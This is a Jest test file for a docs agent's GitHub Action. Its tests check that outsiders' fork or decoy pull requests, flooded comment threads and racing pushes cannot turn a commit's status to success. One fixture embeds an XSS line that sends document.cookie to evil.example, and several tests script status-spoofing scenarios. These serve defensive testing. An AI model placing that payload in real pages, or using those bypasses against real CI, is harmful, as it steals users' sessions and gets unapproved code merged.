import { describe, expect, test } from '@jest/globals'
import type { Emulator } from '../../../emulator/server.ts'
import { byUser, eventEnv, payload, payloadLabel, REPOSITORY } from '../../../emulator/webhooks.ts'
import {
  addOwnComment,
  annotations,
  commentEnv,
  runAgent,
  runCheck,
  withEmulator,
} from '../harness.js'
import { renderMarker } from '../../../src/agent/github/marker.ts'

/**
 * Issue #52, "statuses judged per commit", through the bundles (dist/check/index.js, the check
 * action; dist/index.js, the agent's step) against the emulator. A status is a commit's: every
 * pull request at that commit shows it. Each test is an attack on 1.5.1, which wrote a pass from
 * the event alone (an outsider's pull request at the agent's blocked head turned it green; a
 * fork's, or a push, at a followed code pull request's head put "Not followed" success over its
 * pending or failed `docs`), or judged a head from a files list that had moved on. Each fails
 * against 1.5.1's bundle and passes against this one.
 */
const it = test.concurrent

const PAGE = 'guides/quickstart.mdx'
const BASE = '---\ntitle: Quickstart\n---\n\n# Quickstart\n\nInstall the SDK.\n'
const BLOCKED = `${BASE}\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n`
const CLEAN = `${BASE}\nRun the installer.\n`
const AGENT = { login: 'mintlify[bot]', type: 'Bot' as const }
const STRANGER = { login: 'stranger', type: 'User' as const }
const CHANGES = 'docs-agent/changes'

type Payload = Record<string, any>
type Who = { login: string; type: 'User' | 'Bot' }

/** A commit's statuses of `context`, oldest first, as [state, description]. */
const statusesOf = (emulator: Emulator, sha: string, context = CHANGES) =>
  emulator.github.commits
    .statusesOf(REPOSITORY, sha)
    .filter((s) => s.context === context)
    .reverse()
    .map((s) => [s.state, s.description])

/** A pull request opened by `user` in acme/docs: its number. */
const openPull = (emulator: Emulator, user: Who): number =>
  emulator.github.addIssue(REPOSITORY, { title: 'Docs', pullRequest: true, user }).number

/** The agent's pull request with its change seeded: its number and ends. */
function agentPull(emulator: Emulator, head: string) {
  const number = openPull(emulator, AGENT)
  return {
    number,
    ...emulator.github.seedPullChange({ number, files: [{ path: PAGE, base: BASE, head }] }),
  }
}

/** A pull request event of `number` at `headSha`, opened by and sent by `user`. */
function pullPayload(
  number: number,
  user: Who,
  {
    headSha,
    baseSha = 'f'.repeat(40),
    action = 'opened',
    fork = false,
    before = '',
  }: {
    headSha: string
    baseSha?: string
    action?: string
    fork?: boolean
    before?: string
  },
): Payload {
  return byUser(
    payload('pull_request', action === 'synchronize' ? 'synchronize' : 'opened', (p) => {
      p.action = action
      p.number = number
      Object.assign(p.pull_request, { number, draft: false, labels: [] })
      p.pull_request.user.login = user.login
      p.pull_request.user.type = user.type
      p.pull_request.head.sha = headSha
      p.pull_request.base.sha = baseSha
      if (action === 'synchronize') Object.assign(p, { before, after: headSha })
      if (fork) {
        p.pull_request.head.repo.full_name = `${user.login}/docs`
        p.pull_request.head.repo.fork = true
      }
    }),
    user.login,
    user.type,
  )
}

/** The check action on a pull request event, under pull_request_target as the example runs it. */
const check = (emulator: Emulator, body: Payload, extra: Record<string, string> = {}) =>
  runCheck(emulator, {}, eventEnv('pull_request_target', body, extra))

describe("the check action: an outsider's pull request at a commit of the agent's", () => {
  it("a fork's pull request at the agent's blocked head: the head is judged as the agent's change, and stays blocked", async () => {
    await withEmulator({}, async (emulator) => {
      const agent = agentPull(emulator, BLOCKED)
      const judged = await check(emulator, pullPayload(agent.number, AGENT, agent))
      expect(judged.outputs['change-check']).toBe('blocked')
      const fork = openPull(emulator, STRANGER)
      emulator.github.seedPullAt({ number: fork, headSha: agent.headSha })
      const run = await check(emulator, pullPayload(fork, STRANGER, { ...agent, fork: true }))
      // The agent's pull request shows its head's newest status: the failure, and nothing after.
      expect(statusesOf(emulator, agent.headSha)).toEqual([
        ['failure', expect.stringContaining('1 finding beyond docs text (script)')],
      ])
      expect(run.code).toBe(0)
      expect(run.outputs['change-check']).toBe('blocked')
      expect(run.stdout).toContain(`is a commit of the agent's pull request #${agent.number}`)
    })
  })

  it("a fork's pull request at a head the agent had before its latest push: judged as the agent's change, never passed", async () => {
    await withEmulator({}, async (emulator) => {
      const agent = agentPull(emulator, BLOCKED)
      await check(emulator, pullPayload(agent.number, AGENT, agent))
      const fixed = emulator.github.seedPullChange({
        number: agent.number,
        files: [{ path: PAGE, base: BASE, head: CLEAN }],
      })
      await check(emulator, pullPayload(agent.number, AGENT, { ...fixed, action: 'synchronize' }))
      const fork = openPull(emulator, STRANGER)
      emulator.github.seedPullAt({ number: fork, headSha: agent.headSha })
      const run = await check(emulator, pullPayload(fork, STRANGER, { ...agent, fork: true }))
      expect(statusesOf(emulator, agent.headSha)).toEqual([
        ['failure', expect.stringContaining('(script)')],
      ])
      expect(statusesOf(emulator, fixed.headSha)).toEqual([['success', 'Nothing beyond docs text']])
      expect(run.outputs['change-check']).toBe('blocked')
    })
  })

  it('a head the agent pushed past before any check judged it: the outsider’s pull request gets the agent’s verdict, a failure', async () => {
    await withEmulator({}, async (emulator) => {
      const agent = agentPull(emulator, BLOCKED)
      // The agent pushed again before the check of its first head ran: that head has no status.
      emulator.github.seedPullChange({
        number: agent.number,
        files: [{ path: PAGE, base: BASE, head: CLEAN }],
      })
      const fork = openPull(emulator, STRANGER)
      emulator.github.seedPullAt({ number: fork, headSha: agent.headSha })
      const run = await check(emulator, pullPayload(fork, STRANGER, { ...agent, fork: true }))
      expect(statusesOf(emulator, agent.headSha)).toEqual([
        ['failure', expect.stringContaining('(script)')],
      ])
      expect(run.outputs['change-check']).toBe('blocked')
    })
  })

  it("the agent's head whose read failed (error): an outsider's pull request there does not turn it into a pass", async () => {
    await withEmulator({}, async (emulator) => {
      const agent = agentPull(emulator, BLOCKED)
      // Every way a version reads the change fails (its files list, its comparison).
      for (const op of ['github.compare', 'github.pull-files'])
        emulator.faults.add({ op, kind: 'status', status: 502, times: 0 })
      const failed = await check(emulator, pullPayload(agent.number, AGENT, agent))
      expect(failed.code).toBe(1)
      expect(statusesOf(emulator, agent.headSha)).toEqual([
        ['error', expect.stringMatching(/^Could not read the change/)],
      ])
      emulator.faults.clear()
      const fork = openPull(emulator, STRANGER)
      emulator.github.seedPullAt({ number: fork, headSha: agent.headSha })
      await check(emulator, pullPayload(fork, STRANGER, { ...agent, fork: true }))
      const shown = statusesOf(emulator, agent.headSha)
      expect(shown.at(-1)?.[0]).toBe('failure')
      expect(shown.map(([state]) => state)).not.toContain('success')
    })
  })
})

describe("the check action: a merge group's pass never replaces what its head carries", () => {
  it('a re-run that finds no agent pull request open leaves the error of the group holding its change', async () => {
    await withEmulator({}, async (emulator) => {
      const agent = agentPull(emulator, BLOCKED)
      const group = emulator.github.seedMergeGroup({ numbers: [agent.number] })
      const groupEnv = (attempt: string) =>
        eventEnv(
          'merge_group',
          payload('merge_group', 'checks_requested', (p) => {
            p.merge_group.head_sha = group.headSha
            p.merge_group.base_sha = group.baseSha
            p.merge_group.head_ref = group.headRef
            p.merge_group.base_ref = 'refs/heads/main'
          }),
          { GITHUB_RUN_ATTEMPT: attempt },
        )
      // The group holds the agent's pull request; reading its comparison fails.
      emulator.faults.add({ op: 'github.compare', kind: 'status', status: 502, times: 0 })
      const failed = await runCheck(emulator, {}, groupEnv('1'))
      expect(failed.code).toBe(1)
      emulator.faults.clear()
      // The agent's pull request is closed meanwhile; the group's head still holds its change.
      const issue = emulator.github.issues.find((i) => i.number === agent.number)
      if (issue !== undefined) issue.state = 'closed'
      const rerun = await runCheck(emulator, {}, groupEnv('2'))
      expect(statusesOf(emulator, group.headSha)).toEqual([
        ['error', expect.stringMatching(/^Could not read the change/)],
      ])
      expect(rerun.outputs['change-check']).toBe('skipped')
      expect(rerun.stdout).toMatch(
        /::warning::Nothing set: docs-agent\/changes on [0-9a-f]{7} says error .* replaces nothing but a pass; the merge group shows it\. Queue its pull requests again/,
      )
      expect(rerun.summary).toMatch(/^### docs-agent\/changes: `error` on [0-9a-f]{7}\n/)
    })
  })
})

describe('the change read at the exact ends its verdict names', () => {
  /**
   * The agent's head moves on (a push that reverts the blocked page and adds a clean one) while
   * a check reads its first head: 1.5.1 read the pull request's files list, which by then was the
   * new head's, and passed the first head on the new head's files.
   */
  function racing(emulator: Emulator, number: number, ops: readonly string[]) {
    let moved = false
    return (op: string): number => {
      if (!moved && ops.includes(op)) {
        moved = true
        emulator.github.seedPullChange({
          number,
          files: [{ path: 'guides/other.mdx', head: '# Other\n' }],
        })
      }
      return 0
    }
  }

  it('the check action: a head that moves while it is read gets no verdict from that read, and never a pass', async () => {
    let latency: (op: string) => number = () => 0
    await withEmulator({ latencyMs: (op) => latency(op) }, async (emulator) => {
      const agent = agentPull(emulator, BLOCKED)
      latency = racing(emulator, agent.number, ['github.pull-files', 'github.compare'])
      const run = await check(emulator, pullPayload(agent.number, AGENT, agent))
      expect(statusesOf(emulator, agent.headSha)).toEqual([])
      expect(run.code).toBe(0)
      expect(run.stdout).toMatch(
        /has moved on to [0-9a-f]{7} while [0-9a-f]{7}, whose event this is, was read/,
      )
    })
  })

  it("a job's end: a head that moves while it is read is not judged on the new head's files", async () => {
    let latency: (op: string) => number = () => 0
    await withEmulator({ latencyMs: (op) => latency(op) }, async (emulator) => {
      // The agent's first pull request in the emulator is #101.
      const first = emulator.github.seedPullChange({
        number: 101,
        files: [{ path: PAGE, base: BASE, head: BLOCKED }],
      })
      latency = racing(emulator, 101, ['github.pull-files', 'github.compare'])
      const run = await runAgent(emulator, {}, commentEnv('@docs-agent add a quickstart'))
      expect(statusesOf(emulator, first.headSha)).toEqual([])
      expect(run.code).toBe(0)
      expect(run.outputs['change-check']).toBe('unavailable')
      expect(run.stdout).toMatch(/moved on to [0-9a-f]{7} while [0-9a-f]{7} was read/)
    })
  })
})

describe('docs-status: a pass for one pull request never lands on a followed head', () => {
  const HEAD = 'c'.repeat(40)
  const BEFORE = 'a'.repeat(40)
  const STATUS = { 'follow-code-changes': 'true', 'docs-status': 'docs' }

  /** A followed code pull request whose head HEAD carries `state` from its job's runs. */
  function followed(emulator: Emulator, state?: { state: string; description: string }) {
    emulator.github.commits.seed({
      commits: [
        { sha: BEFORE, files: ['src/cli.ts'] },
        { sha: HEAD, files: ['src/export.ts'] },
      ],
    })
    const number = openPull(emulator, { login: 'dev-dan', type: 'User' })
    emulator.github.pullCommits.push(REPOSITORY, number, [HEAD])
    // Followed: its thread names its job, in the action's own comment.
    const marker = renderMarker({ job: 'j1', request: `code:${number}`, head: BEFORE })
    addOwnComment(emulator, number, `${marker}\nThe docs agent follows this pull request.`)
    if (state !== undefined)
      emulator.github.commits.addStatus(REPOSITORY, HEAD, {
        ...state,
        context: 'docs',
        ageMs: 5000,
      })
    return number
  }

  const agent = (
    emulator: Emulator,
    event: string,
    body: Payload,
    inputs: Record<string, string>,
  ) => runAgent(emulator, { ...STATUS, ...inputs }, eventEnv(event, body))

  const PENDING = { state: 'pending', description: 'The docs agent is working on job j1' }
  const FAILED = { state: 'failure', description: 'The docs agent job j1 failed' }

  it("a writer's unfollowed pull request and an outsider's at the same head: the head gets its pass, not held back by both", async () => {
    await withEmulator({}, async (emulator) => {
      emulator.github.commits.seed({
        commits: [
          { sha: BEFORE, files: ['src/cli.ts'] },
          { sha: HEAD, files: ['src/export.ts'] },
        ],
      })
      const writer = { login: 'writer', type: 'User' as const }
      const own = openPull(emulator, writer)
      emulator.github.pullCommits.openAt(REPOSITORY, own, HEAD)
      const fork = openPull(emulator, STRANGER)
      emulator.github.pullCommits.openAt(REPOSITORY, fork, HEAD)
      const label = { 'label-trigger': 'needs-docs' }
      await agent(emulator, 'pull_request', pullPayload(own, writer, { headSha: HEAD }), label)
      const body = pullPayload(fork, STRANGER, { headSha: HEAD, fork: true })
      await agent(emulator, 'pull_request_target', body, label)
      const pass = ['success', "Not followed: no label 'needs-docs' (label-trigger)"]
      expect(statusesOf(emulator, HEAD, 'docs').at(0)).toEqual(pass)
    })
  })

  it.each([
    ['pending', PENDING],
    ['failed', FAILED],
  ])(
    'a fork\'s pull request opened at a followed pull request\'s %s head: its "Not followed" success is not written there',
    async (_, state) => {
      await withEmulator({}, async (emulator) => {
        followed(emulator, state)
        const fork = openPull(emulator, STRANGER)
        emulator.github.pullCommits.openAt(REPOSITORY, fork, HEAD)
        const body = pullPayload(fork, STRANGER, { headSha: HEAD, fork: true })
        const run = await agent(emulator, 'pull_request_target', body, {
          'label-trigger': 'needs-docs',
        })
        expect(run.code).toBe(0)
        expect(run.outputs.status).toBe('skipped')
        expect(statusesOf(emulator, HEAD, 'docs')).toEqual([[state.state, state.description]])
      })
    },
  )

  it("a fork's pull request opened at a followed head before its job's run wrote there: nothing is written, the followed pull request's run answers it", async () => {
    await withEmulator({}, async (emulator) => {
      const pull = followed(emulator)
      const fork = openPull(emulator, STRANGER)
      emulator.github.pullCommits.openAt(REPOSITORY, fork, HEAD)
      const body = pullPayload(fork, STRANGER, { headSha: HEAD, fork: true })
      const run = await agent(emulator, 'pull_request_target', body, {
        'label-trigger': 'needs-docs',
      })
      expect(statusesOf(emulator, HEAD, 'docs')).toEqual([])
      expect(run.stdout).toContain(
        `it is the head of pull request #${pull}, which a docs job follows: its own runs answer it`,
      )
    })
  })

  it("a push with no job, to a pull request moved to a followed head: the followed head's failure stands", async () => {
    await withEmulator({}, async (emulator) => {
      followed(emulator, FAILED)
      // A writer's pull request opened before the workflow (no job), reset to the followed head.
      const other = openPull(emulator, { login: 'writer', type: 'User' })
      emulator.github.pullCommits.push(REPOSITORY, other, [BEFORE, HEAD])
      const push = pullPayload(
        other,
        { login: 'writer', type: 'User' },
        {
          headSha: HEAD,
          action: 'synchronize',
          before: BEFORE,
        },
      )
      const run = await agent(emulator, 'pull_request', push, {})
      expect(run.outputs.status).toBe('skipped')
      expect(statusesOf(emulator, HEAD, 'docs')).toEqual([[FAILED.state, FAILED.description]])
    })
  })

  it("a refused push (an outsider's fork moved to a followed head): the followed head's pending stands", async () => {
    await withEmulator({}, async (emulator) => {
      followed(emulator, PENDING)
      const fork = openPull(emulator, STRANGER)
      emulator.github.pullCommits.push(REPOSITORY, fork, [BEFORE, HEAD])
      const push = pullPayload(fork, STRANGER, {
        headSha: HEAD,
        action: 'synchronize',
        before: BEFORE,
        fork: true,
      })
      const run = await agent(emulator, 'pull_request_target', push, {})
      expect(run.outputs.status).toBe('skipped')
      expect(statusesOf(emulator, HEAD, 'docs')).toEqual([[PENDING.state, PENDING.description]])
    })
  })
})

/**
 * Issue #52's red team (redteam 1): an outsider's unapproved head on a followed code pull request
 * (one with a job, started when a writer added the label at H1) got `docs: success` ("Not
 * followed: …"), so a required `docs` passed code nobody approved. The bundle decided whether the
 * pull request is followed from the newest status of a commit (the head's for a start, the push's
 * `before` for a push), and held back a failure as well as a pass on a commit that was another
 * open pull request's head. Whether it is followed is now its thread's to say (the job's marker).
 */
describe("docs-status: a followed pull request's unapproved head never shows docs success", () => {
  const OUTSIDER = 'mallory'
  const LABEL = 'needs-docs'
  const [H0, H1, H2, H3] = ['0', '1', '2', '3'].map((n) => n.repeat(40)) as [
    string,
    string,
    string,
    string,
  ]
  const LABELLED = { 'follow-code-changes': 'true', 'docs-status': 'docs', 'label-trigger': LABEL }
  const NOT_SENT = `failure: Not sent: re-add the label '${LABEL}' to approve it; ${OUTSIDER} has no role in this repository; min-permission is write`

  const changed = (filename: string, added: string) => ({
    filename,
    status: 'modified',
    additions: 1,
    deletions: 0,
    patch: `@@ -1 +1,2 @@\n+${added}`,
  })

  /** The outsider's fork pull request at H1 (its number). */
  function outsidersPull(emulator: Emulator): number {
    const number = openPull(emulator, { login: OUTSIDER, type: 'User' })
    emulator.github.pullFiles.set(`${REPOSITORY}#${number}`, [changed('src/cli.ts', 'fast')])
    emulator.github.commits.seed({
      commits: [
        { sha: H0, author: 'octocat' },
        { sha: H1, files: [changed('src/cli.ts', 'fast')], author: OUTSIDER },
      ],
    })
    return number
  }

  /** Commits the outsider adds after `parent`, each changing a file of theirs. */
  const outsidersCommits = (emulator: Emulator, parent: string, shas: string[]) =>
    emulator.github.commits.seed({
      parent,
      commits: shas.map((sha) => ({
        sha,
        files: [changed(`src/${sha.slice(0, 1)}.ts`, `MALLORY-${sha.slice(0, 1)}`)],
        author: OUTSIDER,
      })),
    })

  /** A pull_request_target event of fork pull request `number` at `head`, sent by `sender`. */
  function event(
    number: number,
    action: string,
    sender: string,
    { head = H1, before = '', labels = [LABEL] } = {},
  ): Payload {
    return byUser(
      payload('pull_request', action, (p) => {
        p.number = number
        Object.assign(p.pull_request, {
          number,
          html_url: `https://github.com/${REPOSITORY}/pull/${number}`,
          draft: false,
          author_association: 'CONTRIBUTOR',
          labels: labels.map(payloadLabel),
          updated_at: new Date(Date.now() - 5000).toISOString().replace(/\.\d+Z$/, 'Z'),
        })
        p.pull_request.user.login = OUTSIDER
        p.pull_request.head.sha = head
        p.pull_request.head.repo.full_name = `${OUTSIDER}/docs`
        p.pull_request.head.repo.fork = true
        p.pull_request.base.sha = H0
        if (action === 'labeled') p.label = payloadLabel(LABEL)
        if (action === 'synchronize') Object.assign(p, { before, after: head })
      }),
      sender,
    )
  }

  const run = (emulator: Emulator, body: Payload, runId: string, more = {}) =>
    runAgent(
      emulator,
      { ...LABELLED, ...more },
      eventEnv('pull_request_target', body, { GITHUB_RUN_ID: runId }),
    )

  /** A commit's docs statuses, oldest first, as "state: description". */
  const docsOf = (emulator: Emulator, sha: string) =>
    statusesOf(emulator, sha, 'docs').map(([state, description]) => `${state}: ${description}`)

  /** Everything the service was sent: every prompt of every job. */
  const received = (emulator: Emulator) =>
    [...emulator.agent.jobs.values()].flatMap((job) => job.prompts).join('\n')

  /** A writer adds the label at H1: the outsider's pull request is followed, its job given H1. */
  async function followedAtH1(emulator: Emulator, number: number): Promise<void> {
    expect((await run(emulator, event(number, 'labeled', 'writer'), '801')).code).toBe(0)
    expect(emulator.agent.jobs.size).toBe(1)
    expect(docsOf(emulator, H1).at(-1)).toMatch(/^success: (Docs pull request ready|No docs)/)
  }

  it('closed, a commit added, reopened by the outsider: the new head fails, and the label again sends it', async () => {
    await withEmulator({}, async (emulator) => {
      const number = outsidersPull(emulator)
      await followedAtH1(emulator, number)
      // While it is closed GitHub sends no synchronize; the reopen names the new head.
      outsidersCommits(emulator, H1, [H2])
      const reopened = await run(emulator, event(number, 'reopened', OUTSIDER, { head: H2 }), '802')
      expect(reopened.code).toBe(0)
      expect(reopened.outputs.status).toBe('skipped')
      expect(received(emulator)).not.toContain('MALLORY-2')
      expect(docsOf(emulator, H2)).toEqual([NOT_SENT])
      // The gesture the status names approves H2: exactly H1..H2 goes to the job.
      await run(emulator, event(number, 'labeled', 'writer', { head: H2 }), '803')
      expect(received(emulator)).toContain('MALLORY-2')
      expect(docsOf(emulator, H2).at(-1)).toMatch(/^success: (Docs pull request ready|No docs)/)
    })
  })

  it('closed and reopened by the outsider at the head its job was given: that head keeps its job’s status', async () => {
    await withEmulator({}, async (emulator) => {
      const number = outsidersPull(emulator)
      await followedAtH1(emulator, number)
      const before = docsOf(emulator, H1)
      const reopened = await run(emulator, event(number, 'reopened', OUTSIDER), '804')
      expect(reopened.outputs.status).toBe('skipped')
      expect(docsOf(emulator, H1)).toEqual(before)
    })
  })

  it('two quick pushes under the concurrency group, the first run cancelled: the last head fails, though its before has no status', async () => {
    await withEmulator({}, async (emulator) => {
      const number = outsidersPull(emulator)
      await followedAtH1(emulator, number)
      outsidersCommits(emulator, H1, [H2, H3])
      // H1..H2's run waited in the group and was cancelled by H2..H3's: it never ran.
      const push = event(number, 'synchronize', OUTSIDER, { before: H2, head: H3 })
      const pushed = await run(emulator, push, '805')
      expect(pushed.outputs.status).toBe('skipped')
      expect(docsOf(emulator, H2)).toEqual([])
      expect(docsOf(emulator, H3)).toEqual([NOT_SENT])
      expect(received(emulator)).not.toMatch(/MALLORY-[23]/)
    })
  })

  it('a thread GitHub fails to list: no pass on the decoy-passed head, an error that says why, and the log says so', async () => {
    await withEmulator({}, async (emulator) => {
      const number = outsidersPull(emulator)
      await followedAtH1(emulator, number)
      outsidersCommits(emulator, H1, [H2])
      const decoy = openPull(emulator, { login: OUTSIDER, type: 'User' })
      emulator.github.pullCommits.openAt(REPOSITORY, decoy, H2)
      await run(emulator, event(decoy, 'opened', OUTSIDER, { head: H2, labels: [] }), '809')
      const pass = `success: Not followed: no label '${LABEL}' (label-trigger)`
      expect(docsOf(emulator, H2)).toEqual([pass])
      emulator.github.pullCommits.push(REPOSITORY, number, [H2])
      emulator.faults.add({ op: 'github.list-comments', kind: 'status', status: 502, times: 0 })
      const push = event(number, 'synchronize', OUTSIDER, { before: H1, head: H2 })
      const pushed = await run(emulator, push, '810')
      expect(pushed.outputs.status).toBe('skipped')
      expect(docsOf(emulator, H2)).toEqual([
        pass,
        'error: Could not tell whether the docs agent follows this pull request (GitHub failed to list its comments): re-run the workflow',
      ])
      expect(annotations(pushed, 'warning').join('\n')).toContain(
        `no pass is written on ${H2.slice(0, 7)}`,
      )
      expect(received(emulator)).not.toContain('MALLORY-2')
    })
  })

  it('a thread flooded past the 1,000 comments the action reads (its job hidden past them): no pass on an unapproved head', async () => {
    await withEmulator({}, async (emulator) => {
      const number = outsidersPull(emulator)
      emulator.github.pullCommits.push(REPOSITORY, number, [H1])
      for (let i = 0; i < 1000; i++)
        emulator.github.addComment(REPOSITORY, number, `spam ${i}`, {
          login: OUTSIDER,
          type: 'User',
        })
      expect((await run(emulator, event(number, 'labeled', 'writer'), '801')).code).toBe(0)
      expect(emulator.agent.jobs.size).toBe(1)
      outsidersCommits(emulator, H1, [H2])
      emulator.github.pullCommits.push(REPOSITORY, number, [H2])
      const push = event(number, 'synchronize', OUTSIDER, { before: H1, head: H2 })
      await run(emulator, push, '807')
      expect(docsOf(emulator, H2)).toEqual([
        expect.stringMatching(
          /^error: Could not tell whether the docs agent follows this pull request/,
        ),
      ])
      expect(received(emulator)).not.toContain('MALLORY-2')
    })
  })

  it("code-follow-ups 0: a writer's update of the branch over the outsider's unapproved head shows no docs success", async () => {
    await withEmulator({}, async (emulator) => {
      const zero = { 'code-follow-ups': '0' }
      const number = outsidersPull(emulator)
      emulator.github.pullCommits.push(REPOSITORY, number, [H1])
      expect((await run(emulator, event(number, 'labeled', 'writer'), '801', zero)).code).toBe(0)
      outsidersCommits(emulator, H1, [H2])
      emulator.github.pullCommits.push(REPOSITORY, number, [H2])
      const push = event(number, 'synchronize', OUTSIDER, { before: H1, head: H2 })
      await run(emulator, push, '807', zero)
      // "Update branch": a writer's merge commit on top of the outsider's H2.
      emulator.github.commits.seed({
        parent: H2,
        commits: [{ sha: H3, files: [changed('README.md', 'merge')], author: 'writer' }],
      })
      emulator.github.pullCommits.push(REPOSITORY, number, [H3])
      const update = event(number, 'synchronize', 'writer', { before: H2, head: H3 })
      await run(emulator, update, '808', zero)
      for (const head of [H2, H3])
        expect(docsOf(emulator, head).at(-1)).toMatch(/^failure: Not sent/)
      expect(received(emulator)).not.toContain('MALLORY-2')
    })
  })

  it("a decoy pull request's pass at the commit the outsider then pushes: replaced by the failure", async () => {
    await withEmulator({}, async (emulator) => {
      const number = outsidersPull(emulator)
      emulator.github.pullCommits.push(REPOSITORY, number, [H1])
      await followedAtH1(emulator, number)
      outsidersCommits(emulator, H1, [H2])
      // A second fork pull request of the outsider's at H2, unlabelled, opened first.
      const decoy = openPull(emulator, { login: OUTSIDER, type: 'User' })
      emulator.github.pullCommits.openAt(REPOSITORY, decoy, H2)
      await run(emulator, event(decoy, 'opened', OUTSIDER, { head: H2, labels: [] }), '806')
      const pass = `success: Not followed: no label '${LABEL}' (label-trigger)`
      expect(docsOf(emulator, H2)).toEqual([pass])
      // Then the push to the followed pull request: its head is H2 too, the decoy's head.
      emulator.github.pullCommits.push(REPOSITORY, number, [H2])
      const push = event(number, 'synchronize', OUTSIDER, { before: H1, head: H2 })
      const pushed = await run(emulator, push, '807')
      expect(pushed.outputs.status).toBe('skipped')
      expect(docsOf(emulator, H2)).toEqual([pass, NOT_SENT])
      expect(received(emulator)).not.toContain('MALLORY-2')
      // The decoy's own runs after it write no pass over that failure.
      await run(emulator, event(decoy, 'reopened', OUTSIDER, { head: H2, labels: [] }), '808')
      expect(docsOf(emulator, H2).at(-1)).toBe(NOT_SENT)
    })
  })
})
